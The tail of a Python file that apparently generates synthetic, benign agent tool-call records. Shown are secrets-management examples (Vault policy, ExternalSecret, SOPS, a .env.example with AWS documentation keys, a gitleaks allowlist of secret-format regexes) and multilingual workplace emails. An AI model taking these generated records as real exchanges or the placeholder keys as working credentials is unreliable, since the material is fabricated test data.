  capabilities = ["read"]
}
path "database/creds/payments-ro" {
  capabilities = ["read"]
}
# usage from the pod: vault kv get -field=stripe_key secret/payments/api/config
"""}))

    out.append(L("External Secrets Operator manifest referencing AWS Secrets Manager", "k8s.apply_manifest", {
        "namespace": "payments",
        "manifest": {"apiVersion": "external-secrets.io/v1beta1", "kind": "ExternalSecret", "metadata": {"name": "payments-api"},
                     "spec": {"refreshInterval": "1h", "secretStoreRef": {"name": "aws-sm", "kind": "ClusterSecretStore"},
                              "target": {"name": "payments-api-env"},
                              "data": [{"secretKey": "STRIPE_SECRET_KEY", "remoteRef": {"key": "prod/payments/stripe", "property": "secret_key"}},
                                       {"secretKey": "DB_PASSWORD", "remoteRef": {"key": "prod/payments/db", "property": "password"}}]}}}))

    out.append(L(".env.example with placeholders and AWS documentation example keys", "fs.write_file", {
        "path": ".env.example",
        "content": """# Copy to .env and fill in. Never commit the real .env.
DATABASE_URL=postgres://USER:PASSWORD@localhost:5432/app_dev
STRIPE_SECRET_KEY=<your-stripe-test-secret-key>
STRIPE_WEBHOOK_SECRET=whsec_REPLACE_ME
GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
# The values below are the examples from the AWS documentation and do not work:
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
"""}))

    r = R("legit-sops")
    enc = lambda n: "ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]" % (b64(rbytes(r, n)), b64(rbytes(r, 32)), b64(rbytes(r, 16)))
    out.append(L("SOPS-encrypted values file", "fs.write_file", {
        "path": "deploy/secrets/prod.enc.yaml",
        "content": "db_password: %s\nstripe_secret_key: %s\nsops:\n    kms:\n        - arn: arn:aws:kms:eu-west-1:111122223333:key/%s\n          created_at: \"2025-02-10T10:12:33Z\"\n          enc: %s\n    lastmodified: \"2025-02-10T10:12:34Z\"\n    mac: %s\n    version: 3.8.1\n"
                   % (enc(24), enc(40), uuid4(r), b64(rbytes(r, 180)), enc(32))}))

    out.append(L("Actions workflow consuming secrets via context", "github.create_or_update_file", {
        "owner": "harborline", "repo": "billing", "branch": "main", "path": ".github/workflows/migrate.yml",
        "message": "ci: run migrations with env secrets",
        "content": """name: migrate
on: { workflow_dispatch: {} }
jobs:
  migrate:
    runs-on: ubuntu-latest
    environment: production
    steps:
      - uses: actions/checkout@v4
      - run: ./bin/migrate up
        env:
          DATABASE_URL: ${{ secrets.PROD_DATABASE_URL }}
          SENTRY_AUTH_TOKEN: ${{ secrets.SENTRY_AUTH_TOKEN }}
"""}))

    out.append(L("key rotation runbook with redacted token examples", "wiki.update_page", {
        "page": "Runbooks/Rotate third-party API keys",
        "content": """1. Create the new key in the provider console (GitHub: fine-grained token, 90 day expiry).
2. Store it: `vault kv put secret/ci/github token=-` (paste on stdin, never on the command line).
3. Tokens look like `ghp_****************************ab12` (GitHub classic) or `sk_live_••••••••••••4Xq` (Stripe); only the last four characters go in tickets.
4. Redeploy consumers, confirm in logs that the old key's last-used timestamp stops moving.
5. Revoke the old key and note the revocation time in the change ticket."""}))

    out.append(L("SealedSecret with encrypted data", "k8s.apply_manifest", {
        "namespace": "crm",
        "manifest": {"apiVersion": "bitnami.com/v1alpha1", "kind": "SealedSecret", "metadata": {"name": "crm-smtp", "namespace": "crm"},
                     "spec": {"encryptedData": {"SMTP_PASSWORD": b64(rbytes(r, 300)), "SMTP_USER": b64(rbytes(r, 280))},
                              "template": {"metadata": {"name": "crm-smtp"}, "type": "Opaque"}}}}))

    out.append(L("1Password secret references in env template", "fs.write_file", {
        "path": "config/app.env.tpl",
        "content": "# rendered with: op inject -i config/app.env.tpl -o .env\nDB_PASSWORD={{ op://Platform/orders-db/password }}\nSENDGRID_API_KEY=op://Platform/sendgrid/credential\nSLACK_BOT_TOKEN=op://Platform/slack-bot/token\n"}))

    out.append(L("CloudFormation dynamic references to Secrets Manager and SSM", "cloudformation.validate_template", {
        "template_body": """Resources:
  OrdersDb:
    Type: AWS::RDS::DBInstance
    Properties:
      Engine: postgres
      DBInstanceClass: db.t4g.medium
      AllocatedStorage: '50'
      MasterUsername: '{{resolve:secretsmanager:prod/orders/db:SecretString:username}}'
      MasterUserPassword: '{{resolve:secretsmanager:prod/orders/db:SecretString:password}}'
      VPCSecurityGroups: ['{{resolve:ssm:/network/prod/db-sg-id}}']
"""}))

    out.append(L("gitleaks config with allowlist for documented example keys", "fs.write_file", {
        "path": ".gitleaks.toml",
        "content": """title = "repo gitleaks config"
[extend]
useDefault = true

[allowlist]
description = "documentation examples and test fixtures"
regexes = [
  '''AKIAIOSFODNN7EXAMPLE''',
  '''wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY''',
  '''ghp_x{36}''',
]
paths = [
  '''(^|/)testdata/''',
  '''\\.env\\.example$''',
]
"""}))
    return out


def multilingual_correspondence():
    out = []
    out.append(L("leave approval between manager and employee (en)", "email.send", {
        "to": ["sam.okafor@harborline.com"], "subject": "Re: Annual leave 14–18 April",
        "body": "Hi Sam,\n\nApproved — enjoy the break. Please make sure the April payroll run is handed over to Leila before you go, and set your out-of-office to point to her.\n\nThanks,\nRachel"}))
    out.append(L("password reset help pointing to official self-service (de)", "helpdesk.reply", {
        "ticket": 70412, "public": True,
        "message": "Guten Tag Frau Brandt,\n\nvielen Dank für Ihre Nachricht. Ihr Passwort können Sie jederzeit selbst über https://konto.stadtwerke-beispiel.de/passwort-vergessen zurücksetzen. Sie erhalten dann einen Link an Ihre hinterlegte E-Mail-Adresse. Bitte teilen Sie uns Ihr Passwort niemals per E-Mail oder Telefon mit.\n\nMit freundlichen Grüßen\nIhr Kundenservice"}))
    out.append(L("supplier bank change handled via portal and callback (fr)", "email.send", {
        "to": ["compta@fournitures-lemoine.fr"], "subject": "Re: Changement de RIB",
        "body": "Bonjour Madame Lemoine,\n\nNous avons bien reçu votre courrier concernant le changement de coordonnées bancaires. Conformément à notre procédure, merci de saisir le nouveau RIB directement dans le portail fournisseurs ; notre service comptable vous rappellera ensuite au numéro déjà enregistré dans notre fichier pour confirmation avant toute mise à jour.\n\nBien cordialement,\nService Comptabilité fournisseurs"}))
    out.append(L("refund status update to customer (es)", "support.send_reply", {
        "conversation_id": "c-88213", "channel": "email",
        "text": "Hola Javier:\n\nTe confirmamos que el reembolso del pedido 55-2291 (89,90 €) se emitió el 12 de febrero. Según tu banco, puede tardar entre 5 y 10 días hábiles en aparecer en la tarjeta terminada en 4417. Si pasado ese plazo no lo ves, respóndenos a este correo y lo revisamos.\n\nUn saludo,\nEquipo de Atención al Cliente"}))
    out.append(L("expense report approval request (ja)", "chat.post_message", {
        "channel": "#経理-申請",
        "text": "お疲れさまです。1月分の出張経費精算（大阪出張、合計 48,620円）を申請しました。領収書はすべて経費システムに添付済みです。部長のご承認をお願いいたします。"}))
    out.append(L("HR reply on bank details update via official portal (pt)", "email.send", {
        "to": ["marcos.silva@empresa-exemplo.com.br"], "subject": "Re: Alteração de conta para salário",
        "body": "Olá, Marcos!\n\nPara alterar a conta de recebimento do salário, acesse o portal do colaborador (Meu RH > Dados bancários) e anexe um comprovante da nova conta. Por segurança, não aceitamos alterações por e-mail. A mudança vale a partir da próxima folha, se feita até o dia 20.\n\nAbraços,\nEquipe de RH"}))
    out.append(L("purchase order approval (it)", "workflow.approve", {
        "request_id": "RDA-2025-0311", "decision": "approved",
        "comment": "Approvo l'ordine per 12 monitor (3.480 € IVA esclusa) dal fornitore già in anagrafica. Procedere tramite il portale acquisti come da procedura; consegna presso la sede di Bologna."}))
    out.append(L("customer asking for a VAT invoice (zh)", "helpdesk.reply", {
        "ticket": 90117, "public": True,
        "message": "您好，感谢您的耐心等待。您订单 2025021400317 的增值税专用发票已开具，电子版已发送到您预留的邮箱。如需修改抬头或税号，请在\"我的订单 > 发票管理\"中提交申请，我们会在 3 个工作日内处理。"}))
    out.append(L("leave request and handover (nl)", "email.send", {
        "to": ["teamleads@vandermeer-logistiek.nl"], "subject": "Verlof week 16",
        "body": "Hoi allemaal,\n\nIn week 16 ben ik met vakantie. Joris neemt de planning van de nachtdienst over en Femke is aanspreekpunt voor de leveranciers. Lopende zaken staan in het overdrachtsdocument op SharePoint.\n\nGroet,\nMark"}))
    out.append(L("new hire laptop and account onboarding note (pl)", "tickets.create", {
        "project": "IT", "summary": "Onboarding: Anna Zielińska, 3 marca",
        "description": "Dzień dobry,\n\nproszę o przygotowanie laptopa (standardowa konfiguracja dla działu księgowości) oraz kont w systemach SAP i Jira dla nowej pracownicy Anny Zielińskiej, która zaczyna 3 marca. Dane logowania proszę przekazać osobiście pierwszego dnia pracy.\n\nPozdrawiam,\nKatarzyna z HR"}))
    return out


def build():
    return [("security_team_work", security_team_work()), ("web_email_templating", web_email_templating()),
            ("code_review", code_review()), ("data_science", data_science()), ("crypto_material", crypto_material()),
            ("secrets_management", secrets_management()), ("multilingual_correspondence", multilingual_correspondence())]
